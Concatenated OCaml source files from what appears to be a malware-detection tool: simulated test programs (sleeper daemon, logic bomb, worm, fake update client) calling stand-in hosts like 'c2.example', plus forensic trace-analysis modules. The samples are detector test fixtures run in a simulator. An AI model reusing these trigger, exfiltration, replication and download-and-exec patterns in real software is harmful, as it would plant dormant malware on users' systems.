       ~main:"/bin/slpd" ())

let sleeper_scenarios =
  let open Osim.Net in
  [ sleeper_daemon ~name:"sleeper daemon idle"
      ~descr:"daemon fed only chatter: the magic sequence never arrives, \
              the armed path stays cold"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Send "HELLO-DAEMON"; Close ];
    sleeper_daemon ~name:"sleeper daemon triggered"
      ~descr:"the magic sequence arrives after a long quiet period; the \
              armed daemon exfiltrates the secret database"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:[ Delay trigger_delay; Send magic_arm; Close ];
    sleeper_daemon ~name:"sleeper daemon disarmed"
      ~descr:"armed by the magic sequence, then stood down by the disarm \
              sequence before the channel closes"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Send magic_arm; Delay 400; Send magic_disarm;
          Close ] ]

(* ------------------------------------------------------------------ *)
(* 2. Logic bomb                                                       *)

(* Sleeps in a clock-polling loop until the simulated date passes,
   then consults two pieces of world state: a kill-switch file (the
   defusal) and the hosts database (the trigger).  Only when the
   rendezvous record is present does it drop that record into a
   hard-coded path — the trigger input itself is what leaks, so the
   evidence chain cites the hosts database. *)
let bomb_time = 3000
let bomb_record = "c2.example"
let bomb_host = bomb_record, 0x0A000063
let defuse_file = "/etc/defused"
let bomb_out = "/tmp/.bombed"

let bomb_exe =
  let u =
    create ~path:"/bin/lbomb" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "hostsdb" "/etc/hosts.db";
  asciz u "defuse" defuse_file;
  asciz u "bombout" bomb_out;
  space u "fd" 4;
  space u "recp" 4;
  (* "c2.e" little-endian: the first word of the rendezvous record *)
  let needle =
    Char.code bomb_record.[0]
    lor (Char.code bomb_record.[1] lsl 8)
    lor (Char.code bomb_record.[2] lsl 16)
    lor (Char.code bomb_record.[3] lsl 24)
  in
  label u "_start";
  label u "wait";
  Runtime.sys_sleep u 500;
  movl u eax (imm Osim.Abi.sys_time);
  int80 u;
  cmpl u eax (imm bomb_time);
  jl u "wait";
  (* kill switch: a present defusal file stands the bomb down *)
  Runtime.sys_open u ~path:(lbl "defuse") ~flags:Osim.Abi.o_rdonly;
  testl u eax eax;
  js u "scan_hosts";
  movl u (mlbl "fd") eax;
  Runtime.sys_close u ~fd:(mlbl "fd");
  jmp u "quit";
  label u "scan_hosts";
  Runtime.sys_open u ~path:(lbl "hostsdb") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 256);
  Runtime.sys_close u ~fd:(mlbl "fd");
  xorl u esi esi;
  label u "scan";
  cmpl u (mlbl_base ESI "__buf") (imm needle);
  jz u "payload";
  addl u esi (imm 20);
  cmpl u esi (imm 240);
  jl u "scan";
  jmp u "quit";
  label u "payload";
  export u "payload";
  lea u eax (mlbl_base ESI "__buf");
  movl u (mlbl "recp") eax;
  Runtime.sys_creat u ~path:(lbl "bombout");
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(mlbl "recp") ~len:(imm 20);
  Runtime.sys_close u ~fd:(mlbl "fd");
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let bomb_payload = payload_range bomb_exe

let logic_bomb ~name ~descr ~expected ~hosts ~files =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Session.setup ~programs:[ bomb_exe ] ~files ~hosts
       ~main:"/bin/lbomb" ())

let bomb_scenarios =
  [ logic_bomb ~name:"logic bomb idle"
      ~descr:"the date passes but the rendezvous record is absent from \
              the hosts database: the bomb never goes off"
      ~expected:Scenario.Benign ~hosts:Common.all_hosts ~files:[];
    logic_bomb ~name:"logic bomb triggered"
      ~descr:"date passed and the rendezvous record is present: the bomb \
              drops the trigger record into a hard-coded path"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~hosts:(Common.all_hosts @ [ bomb_host ])
      ~files:[];
    logic_bomb ~name:"logic bomb defused"
      ~descr:"trigger record present but the kill-switch file stands the \
              bomb down first"
      ~expected:Scenario.Benign
      ~hosts:(Common.all_hosts @ [ bomb_host ])
      ~files:[ defuse_file, "stand down" ] ]

(* ------------------------------------------------------------------ *)
(* 3. Two-process worm                                                 *)

(* The parent forks a propagation child and exits.  The child dials the
   next victim and waits (dormant, blocked in recv) for its banner; a
   "VULN" banner arms replication, a following "STOP" recalls it.  An
   armed child sends its replica seed to the victim — a flow the
   information-flow matrix alone grades Low (binary data, hard-coded
   peer), escalated to High purely by the trigger guard. *)
let victim_host = "victim.example", 0x0A000064
let worm_seed = "worm-replica-image-bytes-v1-32!!"
let worm_banner = "VULN"
let worm_recall = "STOP"

let word_of s =
  Char.code s.[0]
  lor (Char.code s.[1] lsl 8)
  lor (Char.code s.[2] lsl 16)
  lor (Char.code s.[3] lsl 24)

let worm_exe =
  let u =
    create ~path:"/bin/worm" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  bytes_ u "wseed" worm_seed;
  Runtime.static_sockaddr u "victim_sa" ~ip:(snd victim_host)
    ~port:worm_port;
  space u "fd" 4;
  label u "_start";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_socket u;
  movl u (mlbl "fd") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd") ~addr:(lbl "victim_sa");
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 4);
  testl u eax eax;
  jz u "quit";
  js u "quit";
  cmpl u (mlbl "__buf") (imm (word_of worm_banner));
  jnz u "quit";
  (* armed; a recall may still arrive before the channel closes *)
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 4);
  testl u eax eax;
  jz u "payload";
  js u "quit";
  cmpl u (mlbl "__buf") (imm (word_of worm_recall));
  jz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_send u ~fd:(mlbl "fd") ~buf:(lbl "wseed")
    ~len:(imm (String.length worm_seed));
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let worm_payload = payload_range worm_exe

let worm_pair ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Session.setup ~programs:[ worm_exe ]
       ~hosts:(Common.all_hosts @ [ victim_host ])
       ~servers:
         [ fst victim_host, worm_port,
           { Osim.Net.actor_host = fst victim_host; script } ]
       ~main:"/bin/worm" ())

let worm_scenarios =
  let open Osim.Net in
  [ worm_pair ~name:"worm pair idle"
      ~descr:"the victim's banner reports it patched: the child drains \
              the handshake and exits without replicating"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Send "SAFE"; Close ];
    worm_pair ~name:"worm pair triggered"
      ~descr:"a vulnerable banner arms replication: the child sends its \
              replica seed to the hard-coded victim"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:[ Delay trigger_delay; Send worm_banner; Close ];
    worm_pair ~name:"worm pair recalled"
      ~descr:"armed by the banner, then recalled by a STOP before the \
              channel closes"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Send worm_banner; Delay 400;
          Send worm_recall; Close ] ]

(* ------------------------------------------------------------------ *)
(* 4. Fake update client                                               *)

(* Asks a user-chosen mirror for an update; the payload arrives over
   the wire as a new image (MZ magic).  A client that receives one
   installs it into a hard-coded path and execs it — content analysis
   and the trigger guard both fire.  A mirror with nothing to offer, or
   one serving a corrupted image, leaves the client silent. *)
let mirror_host = "mirror.example", 0x0A000065
let update_request = "GET update\n"
let update_image = "MZ\x90dormant-update-image-payload!"
let update_drop = "/usr/bin/.helper"

let update_exe =
  let u =
    create ~needed:[ Libc.path ] ~path:"/bin/updcl"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "req" update_request;
  asciz u "helper" update_drop;
  space u "argp" 4;
  space u "fd" 4;
  space u "hfd" 4;
  space u "dlen" 4;
  space u "sa" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  pushl u (mlbl "argp");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "quit";
  Runtime.build_sockaddr ~at:32 u ~ip_src:eax ~port:(imm update_port);
  movl u (mlbl "sa") eax;
  Runtime.sys_socket u;
  movl u (mlbl "fd") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd") ~addr:(mlbl "sa");
  Runtime.sys_send u ~fd:(mlbl "fd") ~buf:(lbl "req")
    ~len:(imm (String.length update_request));
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "dlen") eax;
  testl u eax eax;
  jz u "quit";
  js u "quit";
  cmpb u (mlbl "__buf") (imm (Char.code 'M'));
  jnz u "quit";
  cmpb u (mlbl ~off:1 "__buf") (imm (Char.code 'Z'));
  jnz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_creat u ~path:(lbl "helper");
  movl u (mlbl "hfd") eax;
  Runtime.sys_write u ~fd:(mlbl "hfd") ~buf:(lbl "__buf")
    ~len:(mlbl "dlen");
  Runtime.sys_close u ~fd:(mlbl "hfd");
  Runtime.sys_execve u ~path:(lbl "helper") ();
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let update_payload = payload_range update_exe

let update_client ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Session.setup
       ~programs:[ update_exe; Libc.image () ]
       ~hosts:(Common.all_hosts @ [ mirror_host ])
       ~servers:
         [ fst mirror_host, update_port,
           { Osim.Net.actor_host = fst mirror_host; script } ]
       ~argv:[ "/bin/updcl"; fst mirror_host ]
       ~main:"/bin/updcl" ())

let update_scenarios =
  let open Osim.Net in
  [ update_client ~name:"update client idle"
      ~descr:"the mirror acknowledges the request but has no update: \
              the client exits empty-handed"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Expect_str update_request; Close ];
    update_client ~name:"update client triggered"
      ~descr:"the payload arrives over the wire as a new image; the \
              client installs it into a hard-coded path and execs it"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:
        [ Delay trigger_delay; Expect_str update_request;
          Send update_image; Close ];
    update_client ~name:"update client rejected"
      ~descr:"the served bytes fail the image magic check: the client \
              discards them without installing"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Expect_str update_request;
          Send "ZZcorrupted-update-image-bytes!"; Close ] ]

(* ------------------------------------------------------------------ *)

let scenarios =
  sleeper_scenarios @ bomb_scenarios @ worm_scenarios @ update_scenarios
