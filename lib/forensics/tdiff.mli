(** Structural trace diff — the [hth_trace diff] backend.

    Wraps {!Hth.Golden.first_divergence} and annotates the divergence
    with the step index parsed from the first differing line. *)

type t = {
  line : int;  (** 1-based line number of the first difference *)
  step : int option;
      (** step index of the first divergent line, when parseable *)
  expected : string option;
  actual : string option;
}

val diff : expected:string -> actual:string -> t option
(** [None] iff byte-identical. *)

val diff_files :
  expected:string -> actual:string -> (t option, string) result

val pp : a_name:string -> b_name:string -> Format.formatter -> t -> unit
