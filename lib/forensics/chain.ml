(* Reconstructing per-warning causal chains from a recorded trace —
   warning line → firing rule line → matched facts (by step) → the
   flow events at those steps → taint origins → the first time the
   originating resource was touched.  Pure trace reading: no engine,
   no guest re-execution, so output is a function of the file bytes
   and byte-deterministic. *)

type fact_ref = {
  fr_template : string;
  fr_id : int;
  fr_step : int;
}

type origin_ref = {
  og_role : string;
  og_type : string;
  og_name : string;
  og_origin_type : string;
  og_origin_name : string;
}

type origin_link = {
  origin : origin_ref;
  res_first : Reader.entry option;
      (* first flow line naming the resource itself *)
  origin_first : Reader.entry option;
      (* first flow line naming the resource the *name* came from *)
}

type t = {
  warning : Reader.entry;
  rule : Reader.entry option;
  facts : (fact_ref * Reader.entry option) list;
  origins : origin_link list;
}

(* ------------------------------------------------------------------ *)
(* Wire-format parsing (see Secpert.Evidence)                          *)

let split_on_string ~sep s =
  let seplen = String.length sep in
  let rec go start acc =
    let idx =
      let rec find i =
        if i + seplen > String.length s then None
        else if String.sub s i seplen = sep then Some i
        else find (i + 1)
      in
      find start
    in
    match idx with
    | None -> List.rev (String.sub s start (String.length s - start) :: acc)
    | Some i -> go (i + seplen) (String.sub s start (i - start) :: acc)
  in
  if s = "" then [] else go 0 []

let split_first ~on s =
  match String.index_opt s on with
  | None -> None
  | Some i ->
    Some (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))

let parse_fact_ref part =
  match split_first ~on:'#' part with
  | None -> None
  | Some (template, rest) ->
    (match split_first ~on:'@' rest with
     | None -> None
     | Some (id, step) ->
       (match int_of_string_opt id, int_of_string_opt step with
        | Some fr_id, Some fr_step ->
          Some { fr_template = template; fr_id; fr_step }
        | _ -> None))

let parse_fact_refs s =
  List.filter_map parse_fact_ref (String.split_on_char ',' s)

let parse_typed s =
  (* "TYPE:name" split at the first ':' — ':' inside names survives *)
  match split_first ~on:':' s with
  | None -> s, ""
  | Some (t, n) -> t, n

let parse_origin_ref part =
  match split_first ~on:'=' part with
  | None -> None
  | Some (role, rest) ->
    let left, right =
      match split_on_string ~sep:"<-" rest with
      | [ l ] -> l, ""
      | l :: r -> l, String.concat "<-" r
      | [] -> "", ""
    in
    let og_type, og_name = parse_typed left in
    let og_origin_type, og_origin_name = parse_typed right in
    Some { og_role = role; og_type; og_name; og_origin_type;
           og_origin_name }

let parse_origin_refs s =
  List.filter_map parse_origin_ref (split_on_string ~sep:";" s)

(* ------------------------------------------------------------------ *)
(* Reconstruction                                                      *)

let link_origin trace origin =
  let lookup name =
    if name = "" then None else Reader.first_naming trace name
  in
  { origin; res_first = lookup origin.og_name;
    origin_first = lookup origin.og_origin_name }

let chain_of_warning trace ~preceding_rule w =
  let facts =
    match Reader.str_field w "ev_facts" with
    | None -> []
    | Some s ->
      List.map
        (fun r -> r, Reader.find_step trace r.fr_step)
        (parse_fact_refs s)
  in
  let origins =
    match Reader.str_field w "ev_origins" with
    | None -> []
    | Some s -> List.map (link_origin trace) (parse_origin_refs s)
  in
  { warning = w; rule = preceding_rule; facts; origins }

let explain trace =
  (* a warning is raised from inside its rule's firing, so its chain's
     rule line is the nearest preceding "rule" entry *)
  let _, chains_rev =
    List.fold_left
      (fun (last_rule, acc) (e : Reader.entry) ->
        match e.ev with
        | "rule" -> Some e, acc
        | "warning" ->
          last_rule, chain_of_warning trace ~preceding_rule:last_rule e :: acc
        | _ -> last_rule, acc)
      (None, []) (Reader.entries trace)
  in
  List.rev chains_rev

(* ------------------------------------------------------------------ *)
(* Rendering: indented text                                            *)

let describe_resource e =
  let typed kind name =
    match kind, name with
    | Some k, Some n -> Fmt.str " %s:%s" k n
    | None, Some n -> Fmt.str " %s" n
    | _ -> ""
  in
  match Reader.str_field e "kind" with
  | Some ("exec" | "access") ->
    typed (Reader.str_field e "res_kind") (Reader.str_field e "res_name")
  | Some "transfer" ->
    Fmt.str " ->%s"
      (typed
         (Reader.str_field e "target_kind")
         (Reader.str_field e "target_name"))
  | _ -> ""

let describe_event (e : Reader.entry) =
  match e.ev with
  | "flow" ->
    let kind = Option.value (Reader.str_field e "kind") ~default:"?" in
    let call =
      match Reader.str_field e "call" with
      | Some c -> " " ^ c
      | None -> ""
    in
    let tick =
      match Reader.int_field e "tick" with
      | Some t -> Fmt.str " (tick %d)" t
      | None -> ""
    in
    Fmt.str "flow %s%s%s%s" kind call (describe_resource e) tick
  | "syscall" ->
    Fmt.str "syscall %s"
      (Option.value (Reader.str_field e "name") ~default:"?")
  | ev -> ev

let pp_indented_message ppf message =
  List.iteri
    (fun i line ->
      if i = 0 then Fmt.pf ppf "  message: %s@," line
      else Fmt.pf ppf "           %s@," (String.trim line))
    (String.split_on_char '\n' message)

let origin_story o =
  match o.og_origin_type with
  | "SOCKET" -> Fmt.str "name originated from SOCKET:%s" o.og_origin_name
  | "FILE" -> Fmt.str "name originated from FILE:%s" o.og_origin_name
  | "BINARY" -> Fmt.str "name hardcoded in BINARY:%s" o.og_origin_name
  | "USER_INPUT" -> "name typed by the user"
  | "HARDWARE" -> "name derived from hardware"
  | _ -> "name origin unknown"

let pp_chain ppf (c : t) =
  let w = c.warning in
  Fmt.pf ppf "@[<v>warning step=%d [%s] rule=%s pid=%d tick=%d%s@,"
    w.Reader.step
    (Option.value (Reader.str_field w "severity") ~default:"?")
    (Option.value (Reader.str_field w "rule") ~default:"?")
    (Option.value (Reader.int_field w "pid") ~default:(-1))
    (Option.value (Reader.int_field w "tick") ~default:(-1))
    (if Reader.bool_field w "rare" = Some true then " (rare)" else "");
  (match Reader.str_field w "message" with
   | Some m -> pp_indented_message ppf m
   | None -> ());
  (match c.rule with
   | Some r ->
     Fmt.pf ppf "  activation: rule=%s step=%d matched=%s@,"
       (Option.value (Reader.str_field r "name") ~default:"?")
       r.Reader.step
       (Option.value (Reader.str_field r "fact_ids") ~default:"")
   | None -> Fmt.pf ppf "  activation: (not recorded)@,");
  List.iter
    (fun (r, entry) ->
      match entry with
      | Some e ->
        Fmt.pf ppf "  fact %s#%d -> step=%d %s@," r.fr_template r.fr_id
          e.Reader.step (describe_event e)
      | None ->
        Fmt.pf ppf "  fact %s#%d -> step=%d (unresolved)@," r.fr_template
          r.fr_id r.fr_step)
    c.facts;
  List.iter
    (fun l ->
      let o = l.origin in
      Fmt.pf ppf "  origin %s %s:%s — %s@," o.og_role o.og_type o.og_name
        (origin_story o);
      (match l.res_first with
       | Some e ->
         Fmt.pf ppf "    resource first touched: step=%d %s@," e.Reader.step
           (describe_event e)
       | None -> ());
      match l.origin_first with
      | Some e ->
        Fmt.pf ppf "    name source first touched: step=%d %s@,"
          e.Reader.step (describe_event e)
      | None -> ())
    c.origins;
  Fmt.pf ppf "@]"

let pp_chains ppf chains =
  if chains = [] then Fmt.pf ppf "no warnings in trace@."
  else
    List.iteri
      (fun i c ->
        if i > 0 then Fmt.pf ppf "@.";
        Fmt.pf ppf "%a@." pp_chain c)
      chains

(* ------------------------------------------------------------------ *)
(* Rendering: JSON                                                     *)

let add_json_string b s =
  Buffer.add_char b '"';
  String.iter
    (fun ch ->
      match ch with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\r' -> Buffer.add_string b "\\r"
      | '\t' -> Buffer.add_string b "\\t"
      | ch when Char.code ch < 0x20 ->
        Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code ch))
      | ch -> Buffer.add_char b ch)
    s;
  Buffer.add_char b '"'

let add_kv b ~first k add_v =
  if not first then Buffer.add_char b ',';
  add_json_string b k;
  Buffer.add_char b ':';
  add_v ()

let json_of_chain (c : t) =
  let b = Buffer.create 512 in
  let str k v ~first =
    add_kv b ~first k (fun () -> add_json_string b v)
  in
  let int k v ~first =
    add_kv b ~first k (fun () -> Buffer.add_string b (string_of_int v))
  in
  let w = c.warning in
  Buffer.add_char b '{';
  int "step" w.Reader.step ~first:true;
  str "severity"
    (Option.value (Reader.str_field w "severity") ~default:"")
    ~first:false;
  str "rule" (Option.value (Reader.str_field w "rule") ~default:"")
    ~first:false;
  int "pid" (Option.value (Reader.int_field w "pid") ~default:(-1))
    ~first:false;
  int "tick" (Option.value (Reader.int_field w "tick") ~default:(-1))
    ~first:false;
  str "message" (Option.value (Reader.str_field w "message") ~default:"")
    ~first:false;
  (match c.rule with
   | Some r ->
     add_kv b ~first:false "activation" (fun () ->
         Buffer.add_char b '{';
         int "step" r.Reader.step ~first:true;
         str "rule"
           (Option.value (Reader.str_field r "name") ~default:"")
           ~first:false;
         Buffer.add_char b '}')
   | None -> ());
  add_kv b ~first:false "facts" (fun () ->
      Buffer.add_char b '[';
      List.iteri
        (fun i (r, entry) ->
          if i > 0 then Buffer.add_char b ',';
          Buffer.add_char b '{';
          str "template" r.fr_template ~first:true;
          int "id" r.fr_id ~first:false;
          int "step" r.fr_step ~first:false;
          (match entry with
           | Some e -> str "event" (describe_event e) ~first:false
           | None -> str "event" "(unresolved)" ~first:false);
          Buffer.add_char b '}')
        c.facts;
      Buffer.add_char b ']');
  add_kv b ~first:false "origins" (fun () ->
      Buffer.add_char b '[';
      List.iteri
        (fun i l ->
          if i > 0 then Buffer.add_char b ',';
          let o = l.origin in
          Buffer.add_char b '{';
          str "role" o.og_role ~first:true;
          str "type" o.og_type ~first:false;
          str "name" o.og_name ~first:false;
          str "origin_type" o.og_origin_type ~first:false;
          str "origin_name" o.og_origin_name ~first:false;
          (match l.res_first with
           | Some e -> int "first_seen_step" e.Reader.step ~first:false
           | None -> ());
          (match l.origin_first with
           | Some e ->
             int "origin_first_seen_step" e.Reader.step ~first:false
           | None -> ());
          Buffer.add_char b '}')
        c.origins;
      Buffer.add_char b ']');
  Buffer.add_char b '}';
  Buffer.contents b
