(** Parsing the flat JSON objects [Obs.Trace] emits.

    Hand-written (the toolchain ships no JSON library) and accepting
    exactly the trace's shape: a single one-level object per line,
    values restricted to ints, strings and booleans.  String escapes
    mirror the emitter (backslash-escaped quote/backslash/slash/n/t/r
    and [\uXXXX] for control bytes). *)

type value = Int of int | Str of string | Bool of bool

val parse_line : string -> ((string * value) list, string) result
(** [parse_line line] parses one JSONL line into its fields in
    emission order. *)
