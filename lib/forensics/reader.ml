type entry = {
  step : int;
  ev : string;
  fields : (string * Jsonl.value) list;
  line : int;
  raw : string;
}

type t = {
  entries : entry list;
  by_step : (int, entry) Hashtbl.t;
}

let int_field e name =
  match List.assoc_opt name e.fields with
  | Some (Jsonl.Int n) -> Some n
  | Some _ | None -> None

let str_field e name =
  match List.assoc_opt name e.fields with
  | Some (Jsonl.Str s) -> Some s
  | Some _ | None -> None

let bool_field e name =
  match List.assoc_opt name e.fields with
  | Some (Jsonl.Bool b) -> Some b
  | Some _ | None -> None

let entry_of_line ~line raw =
  match Jsonl.parse_line raw with
  | Error m -> Error (Fmt.str "line %d: %s" line m)
  | Ok fields ->
    let step =
      match List.assoc_opt "step" fields with
      | Some (Jsonl.Int n) -> n
      | Some _ | None -> -1
    in
    let ev =
      match List.assoc_opt "ev" fields with
      | Some (Jsonl.Str s) -> s
      | Some _ | None -> ""
    in
    if step < 0 then Error (Fmt.str "line %d: missing step index" line)
    else if ev = "" then Error (Fmt.str "line %d: missing ev kind" line)
    else Ok { step; ev; fields; line; raw }

let of_string s =
  let lines = String.split_on_char '\n' s in
  let rec go i acc = function
    | [] -> Ok (List.rev acc)
    | "" :: rest -> go (i + 1) acc rest
    | raw :: rest ->
      (match entry_of_line ~line:i raw with
       | Error _ as e -> e
       | Ok entry -> go (i + 1) (entry :: acc) rest)
  in
  match go 1 [] lines with
  | Error _ as e -> e
  | Ok entries ->
    let by_step = Hashtbl.create (List.length entries) in
    List.iter (fun e -> Hashtbl.replace by_step e.step e) entries;
    Ok { entries; by_step }

let of_file path =
  match open_in_bin path with
  | exception Sys_error m -> Error m
  | ic ->
    let n = in_channel_length ic in
    let s = really_input_string ic n in
    close_in ic;
    of_string s

let entries t = t.entries

let length t = List.length t.entries

let find_step t step = Hashtbl.find_opt t.by_step step

(* Does [e] name [name] in any resource-bearing field?  Flow lines
   carry structured [res_name]/[target_name]/[server_name] fields;
   warnings carry none of these, so this is an event-side notion. *)
let names_resource e name =
  let matches f = str_field e f = Some name in
  matches "res_name" || matches "target_name" || matches "server_name"

let first_naming t name =
  List.find_opt
    (fun e -> e.ev = "flow" && names_resource e name)
    t.entries
