type filter = {
  ev : string option;
  pid : int option;
  resource : string option;
  step_min : int option;
  step_max : int option;
}

let any = { ev = None; pid = None; resource = None; step_min = None;
            step_max = None }

let contains ~sub s =
  let n = String.length sub in
  if n = 0 then true
  else begin
    let limit = String.length s - n in
    let rec go i =
      i <= limit && (String.sub s i n = sub || go (i + 1))
    in
    go 0
  end

(* The resource filter substring-matches every name-bearing field so
   "outpipe" finds opens, writes and server sockets alike. *)
let resource_matches (e : Reader.entry) sub =
  List.exists
    (fun field ->
      match Reader.str_field e field with
      | Some v -> contains ~sub v
      | None -> false)
    [ "res_name"; "target_name"; "server_name"; "name"; "path"; "resource" ]

let matches f (e : Reader.entry) =
  (match f.ev with None -> true | Some k -> e.ev = k)
  && (match f.pid with None -> true | Some p -> Reader.int_field e "pid" = Some p)
  && (match f.step_min with None -> true | Some n -> e.step >= n)
  && (match f.step_max with None -> true | Some n -> e.step <= n)
  && (match f.resource with None -> true | Some s -> resource_matches e s)

let run trace f = List.filter (matches f) (Reader.entries trace)
