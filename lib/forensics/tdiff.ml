(* Structural trace diff: the golden comparator (Hth.Golden) promoted
   to an analyst tool, reporting the first-divergence step alongside
   the line numbers. *)

type t = {
  line : int;
  step : int option;  (* step index parsed from the first divergent line *)
  expected : string option;
  actual : string option;
}

let step_of_line raw =
  match Jsonl.parse_line raw with
  | Error _ -> None
  | Ok fields ->
    (match List.assoc_opt "step" fields with
     | Some (Jsonl.Int n) -> Some n
     | Some _ | None -> None)

let of_divergence (d : Hth.Golden.divergence) =
  let step =
    match d.expected, d.actual with
    | Some l, _ | None, Some l -> step_of_line l
    | None, None -> None
  in
  { line = d.line; step; expected = d.expected; actual = d.actual }

let diff ~expected ~actual =
  Option.map of_divergence (Hth.Golden.first_divergence ~expected ~actual)

let diff_files ~expected ~actual =
  let read path =
    match open_in_bin path with
    | exception Sys_error m -> Error m
    | ic ->
      let n = in_channel_length ic in
      let s = really_input_string ic n in
      close_in ic;
      Ok s
  in
  match read expected, read actual with
  | Error m, _ | _, Error m -> Error m
  | Ok e, Ok a -> Ok (diff ~expected:e ~actual:a)

let pp ~a_name ~b_name ppf d =
  Fmt.pf ppf "@[<v>traces diverge at line %d%s@," d.line
    (match d.step with
     | Some s -> Fmt.str " (step %d)" s
     | None -> "");
  (match d.expected with
   | Some l -> Fmt.pf ppf "  %s: %s@," a_name l
   | None -> Fmt.pf ppf "  %s: <no line>@," a_name);
  (match d.actual with
   | Some l -> Fmt.pf ppf "  %s: %s@," b_name l
   | None -> Fmt.pf ppf "  %s: <no line>@," b_name);
  Fmt.pf ppf "@]"
