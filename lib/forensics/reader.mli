(** Loading a recorded JSONL trace into memory.

    One {!entry} per line, in file order; the [step] index is the
    primary key (monotone from 0 within a recording). *)

type entry = {
  step : int;
  ev : string;  (** event kind: phase / syscall / flow / rule / ... *)
  fields : (string * Jsonl.value) list;
  line : int;  (** 1-based line number in the file *)
  raw : string;  (** the verbatim line *)
}

type t

val of_string : string -> (t, string) result
(** Parse a whole trace; empty lines are skipped, any malformed line
    is an error. *)

val of_file : string -> (t, string) result

val entries : t -> entry list
(** All entries, file order. *)

val length : t -> int

val find_step : t -> int -> entry option

val int_field : entry -> string -> int option

val str_field : entry -> string -> string option

val bool_field : entry -> string -> bool option

val names_resource : entry -> string -> bool
(** Does the entry name this resource in its [res_name] /
    [target_name] / [server_name] fields? *)

val first_naming : t -> string -> entry option
(** The earliest ["flow"] entry naming the resource — the first time
    the monitored program touched it. *)
