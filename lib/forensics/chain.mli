(** Per-warning causal chains, reconstructed offline.

    [explain] walks a recorded trace and, for each ["warning"] line,
    rebuilds the chain: the rule activation that fired it, the
    working-memory facts that activation matched (each resolving by
    step index to the ["flow"] event it encodes), and the
    taint-classified origins the policy consulted (each resolving to
    the first trace event that touched the responsible resource).
    Everything is a pure function of the trace bytes — no engine, no
    guest re-execution — so rendering is byte-deterministic. *)

type fact_ref = {
  fr_template : string;
  fr_id : int;
  fr_step : int;
}

type origin_ref = {
  og_role : string;
  og_type : string;
  og_name : string;
  og_origin_type : string;
  og_origin_name : string;
}

type origin_link = {
  origin : origin_ref;
  res_first : Reader.entry option;
      (** first flow line naming the resource itself *)
  origin_first : Reader.entry option;
      (** first flow line naming the resource its {e name} came from *)
}

type t = {
  warning : Reader.entry;
  rule : Reader.entry option;
      (** the nearest preceding ["rule"] line — the firing activation *)
  facts : (fact_ref * Reader.entry option) list;
      (** matched facts with the trace entry at their recorded step *)
  origins : origin_link list;
}

val parse_fact_refs : string -> fact_ref list
(** Parse an [ev_facts] field ([tpl#id@step,...]); malformed parts are
    dropped. *)

val parse_origin_refs : string -> origin_ref list
(** Parse an [ev_origins] field
    ([role=TYPE:name<-OTYPE:oname;...]). *)

val explain : Reader.t -> t list
(** All warning chains, trace order. *)

val describe_event : Reader.entry -> string
(** One-line summary of a trace entry (used in chain rendering). *)

val pp_chain : Format.formatter -> t -> unit
(** Indented text rendering of one chain. *)

val pp_chains : Format.formatter -> t list -> unit
(** All chains, blank-line separated. *)

val json_of_chain : t -> string
(** One-line JSON object for a chain. *)
