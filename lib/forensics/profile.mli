(** Offline profiling of a recorded trace — the [hth_trace profile]
    backend.

    Counters and hot blocks come from the ["counter"] / ["hot_block"]
    lines the session embeds at the end of a traced run; since those
    are the live run's own stats, the offline numbers reproduce
    [hth_run --stats] exactly.  Event mix and phase spans are computed
    from the event stream itself. *)

type t = {
  steps : int;  (** total trace lines *)
  phases : (string * int * int) list;
      (** (name, first step, last step) per session phase *)
  counters : (string * int) list;  (** embedded per-run counter diff *)
  syscalls : (string * int) list;
      (** syscall mix: the [osim.syscalls.*] members *)
  events_by_kind : (string * int) list;  (** flow lines by kind *)
  hot_blocks : (int * int * int) list;
      (** embedded top blocks as (pid, leader, count) *)
}

val of_trace : Reader.t -> t

val pp : ?top:int -> Format.formatter -> t -> unit
