(* A hand-written parser for the flat JSON objects Obs.Trace emits —
